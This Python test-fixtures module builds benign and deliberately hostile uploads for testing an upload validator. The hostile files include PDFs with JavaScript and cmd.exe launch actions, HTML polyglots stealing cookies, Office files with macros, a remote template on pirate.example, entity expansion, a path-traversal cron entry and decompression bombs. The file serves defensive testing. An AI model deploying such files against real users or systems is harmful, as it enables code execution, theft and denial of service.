"""Files a teacher might attach, good and hostile, built in memory (no file on disk)."""

import io
import struct
import zipfile
import zlib
from functools import cache

from PIL import Image

# PDF.


@cache
def real_pdf() -> bytes:
    """A PDF as WeasyPrint writes it (compressed object streams included)."""
    from carnet.documents.pdf import html_to_pdf

    return html_to_pdf(html="<h1>Fiche élève</h1><p>Câblage d'un tableau.</p>")


def handmade_pdf(*objects: bytes, trailer: bytes = b"", header: bytes = b"%PDF-1.7\n") -> bytes:
    """A small PDF from ``objects`` (numbered from 1); the cross-reference table is right."""
    out = io.BytesIO()
    out.write(header)
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(
        b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n"
        % (len(objects) + 1, trailer, xref)
    )
    return out.getvalue()


PAGES = (
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
)


def plain_pdf(catalog_extra: bytes = b"") -> bytes:
    return handmade_pdf(b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>", *PAGES)


def pdf_with_javascript() -> bytes:
    return plain_pdf(b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> ")


def pdf_with_escaped_javascript() -> bytes:
    # /J#61vaScript is /JavaScript for a PDF reader.
    return plain_pdf(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >> ")


def pdf_with_launch() -> bytes:
    return plain_pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >> ")


def pdf_with_embedded_file() -> bytes:
    return plain_pdf(b"/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >> ")


def pdf_with_url_in_string() -> bytes:
    """Harmless: « /JS/ » inside a link's address (a string), not a PDF name."""
    return plain_pdf(b"/URI << /Base (https://exemple.fr/JS/JavaScript/) >> ")


def _object_stream(content: bytes, *, compress: bool = True) -> bytes:
    data = zlib.compress(content) if compress else content
    flate = b"/Filter /FlateDecode " if compress else b""
    return (
        b"<< /Type /ObjStm /N 1 /First 4 " + flate + b"/Length %d >>\nstream\n" % len(data)
        + data + b"\nendstream"
    )  # fmt: skip


def pdf_with_javascript_in_object_stream() -> bytes:
    return handmade_pdf(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
        *PAGES,
        _object_stream(b"5 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>"),
    )


def pdf_with_object_stream_bomb() -> bytes:
    inflater = zlib.compressobj(9)
    data = b"".join(inflater.compress(b"\0" * (1 << 20)) for _ in range(80)) + inflater.flush()
    body = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(
        data
    )
    return handmade_pdf(b"<< /Type /Catalog /Pages 2 0 R >>", *PAGES, body + data + b"\nendstream")


def encrypted_pdf() -> bytes:
    return handmade_pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        *PAGES,
        b"<< /Filter /Standard /V 2 /R 3 /O (x) /U (y) /P -4 >>",
        trailer=b"/Encrypt 4 0 R ",
    )


def pdf_with_html_in_comment() -> bytes:
    return plain_pdf().replace(
        b"%PDF-1.7\n", b"%PDF-1.7\n%<html><script>alert(document.cookie)</script>\n", 1
    )


def pdf_with_html_far_inside() -> bytes:
    """HTML after the first kilobyte, in a comment between objects (a PDF/HTML polyglot)."""
    return handmade_pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>\n%" + b"=" * 2000,
        *PAGES,
        b"<< /Producer (x) >>\n%<script>alert(document.cookie)</script>",
    )


def html_named_pdf() -> bytes:
    return b"<!DOCTYPE html><html><body><script>alert(1)</script>%PDF-1.7</body></html>"


def html_then_pdf() -> bytes:
    return b"\n  <html><script>fetch('/')</script>\n" + plain_pdf()


def truncated_pdf() -> bytes:
    return real_pdf()[: len(real_pdf()) // 2]


# Images.


def png(size=(64, 48)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (200, 40, 40)).save(out, format="PNG")
    return out.getvalue()


def jpeg_with_exif() -> bytes:
    exif = Image.Exif()
    exif[0x010F] = "Appareil du professeur"  # Make
    out = io.BytesIO()
    Image.new("RGB", (64, 48), (20, 90, 160)).save(out, format="JPEG", exif=exif)
    return out.getvalue()


def svg() -> bytes:
    return b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


def gif() -> bytes:
    out = io.BytesIO()
    Image.new("P", (8, 8)).save(out, format="GIF")
    return out.getvalue()


# Office documents (zips).


def zipped(entries: dict[str, bytes], *, stored_first: str | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        if stored_first:
            archive.writestr(stored_first, entries[stored_first], compress_type=zipfile.ZIP_STORED)
        for name, content in entries.items():
            if name != stored_first:
                archive.writestr(name, content)
    return out.getvalue()


DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"


def _content_types(main: str, extra: str = "") -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/word/document.xml" ContentType="{main}"/>{extra}</Types>'
    ).encode()


RELS = (
    b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
    b'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
    b'officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>'
    b"</Relationships>"
)
DOCUMENT = (
    b'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
    b'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Consignes</w:t></w:r></w:p></w:body>'
    b"</w:document>"
)


def docx_entries(**extra: bytes) -> dict[str, bytes]:
    return {
        "[Content_Types].xml": _content_types(DOCX_MAIN),
        "_rels/.rels": RELS,
        "word/document.xml": DOCUMENT,
        **extra,
    }


def docx() -> bytes:
    return zipped(docx_entries())


def docm() -> bytes:
    entries = docx_entries(**{"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro"})
    entries["[Content_Types].xml"] = _content_types(
        DOCM_MAIN,
        '<Override PartName="/word/vbaProject.bin" '
        'ContentType="application/vnd.ms-office.vbaProject"/>',
    )
    return zipped(entries)


def docx_with_vba_but_plain_type() -> bytes:
    """A .docm renamed, its main type set back to a plain document: the VBA part remains."""
    return zipped(docx_entries(**{"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro"}))


def docx_with_activex() -> bytes:
    return zipped(docx_entries(**{"word/activeX/activeX1.xml": b"<ax/>"}))


def docx_with_ole_object() -> bytes:
    return zipped(docx_entries(**{"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0 exe"}))


def docx_with_remote_template() -> bytes:
    rels = (
        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        b'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
        b'officeDocument/2006/relationships/attachedTemplate" '
        b'Target="http://pirate.example/m.dotm" '
        b'TargetMode="External"/></Relationships>'
    )
    return zipped(docx_entries(**{"word/_rels/settings.xml.rels": rels}))


def docx_with_doctype() -> bytes:
    entries = docx_entries()
    entries["[Content_Types].xml"] = (
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>'
        + entries["[Content_Types].xml"].split(b"?>", 1)[1]
    )
    return zipped(entries)


def docx_with_traversal() -> bytes:
    return zipped(docx_entries(**{"../../../etc/cron.d/x": b"* * * * * root sh"}))


def docx_without_main_part() -> bytes:
    entries = docx_entries()
    del entries["word/document.xml"]
    return zipped(entries)


def pptx() -> bytes:
    main = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
    return zipped(docx_entries(**{"[Content_Types].xml": _content_types(main)}))


def xlsx() -> bytes:
    import openpyxl

    workbook = openpyxl.Workbook()
    workbook.active["A1"] = "Mesures"
    workbook.active["B2"] = 230
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def _rezip(data: bytes, change) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as source:
        entries = {info.filename: source.read(info) for info in source.infolist()}
    change(entries)
    return zipped(entries)


def xlsm() -> bytes:
    def macro(entries):
        entries["[Content_Types].xml"] = entries["[Content_Types].xml"].replace(
            b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
            b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
        )
        entries["xl/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 Auto_Open"

    return _rezip(xlsx(), macro)


def xlsx_bomb() -> bytes:
    """An XLSX whose sheet inflates 30 Mo of zeros from some 30 Ko: a ratio of 1000:1."""

    def bomb(entries):
        entries["xl/worksheets/sheet1.xml"] = b"<worksheet>" + b"\0" * (30 << 20) + b"</worksheet>"

    return _rezip(xlsx(), bomb)


def _patch_sizes(data: bytes, size: int) -> bytes:
    """The zip with every entry announcing ``size`` bytes inflated (headers that lie)."""
    patched = bytearray(data)
    position = 0
    while (position := patched.find(b"PK\x03\x04", position)) >= 0:
        struct.pack_into("<I", patched, position + 22, size)
        position += 4
    position = 0
    while (position := patched.find(b"PK\x01\x02", position)) >= 0:
        struct.pack_into("<I", patched, position + 24, size)
        position += 4
    return bytes(patched)


def xlsx_announcing_gigabytes() -> bytes:
    return _patch_sizes(xlsx(), 1 << 30)


def docx_with_lying_sizes() -> bytes:
    """Sizes announced smaller than the data: the entry inflates more than announced."""
    return _patch_sizes(docx(), 10)


def docx_encrypted_flag() -> bytes:
    patched = bytearray(docx())
    position = 0
    while (position := patched.find(b"PK\x01\x02", position)) >= 0:
        patched[position + 8] |= 0x1
        position += 4
    return bytes(patched)


ODT_MIMETYPE = b"application/vnd.oasis.opendocument.text"
ODT_CONTENT = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<office:document-content xmlns:office="urn:oasis:names:tc:'
    b'opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0">'
    b"<office:scripts/><office:body><office:text><text:p>Consignes</text:p></office:text>"
    b"</office:body></office:document-content>"
)
MANIFEST = (
    b'<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:'
    b'opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" '
    b'manifest:media-type="application/vnd.oasis.opendocument.text"/></manifest:manifest>'
)


def odt_entries(**extra: bytes) -> dict[str, bytes]:
    return {
        "mimetype": ODT_MIMETYPE,
        "content.xml": ODT_CONTENT,
        "META-INF/manifest.xml": MANIFEST,
        **extra,
    }


def odt() -> bytes:
    return zipped(odt_entries(), stored_first="mimetype")


def odt_with_basic_macro() -> bytes:
    return zipped(
        odt_entries(
            **{"Basic/Standard/Module1.xml": b'<script:module>Shell("calc")</script:module>'}
        ),
        stored_first="mimetype",
    )


def odt_with_event_script() -> bytes:
    content = ODT_CONTENT.replace(
        b"<office:scripts/>",
        b"<office:scripts><office:event-listeners>"
        b'<script:event-listener script:event-name="dom:load" '
        b'xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/>'
        b"</office:event-listeners></office:scripts>",
    )
    return zipped(odt_entries(**{"content.xml": content}), stored_first="mimetype")


def ods() -> bytes:
    return zipped(
        odt_entries(mimetype=b"application/vnd.oasis.opendocument.spreadsheet"),
        stored_first="mimetype",
    )


def old_word_document() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512


def too_many_entries() -> bytes:
    return zipped(docx_entries(**{f"word/media/image{n}.png": b"x" for n in range(1200)}))
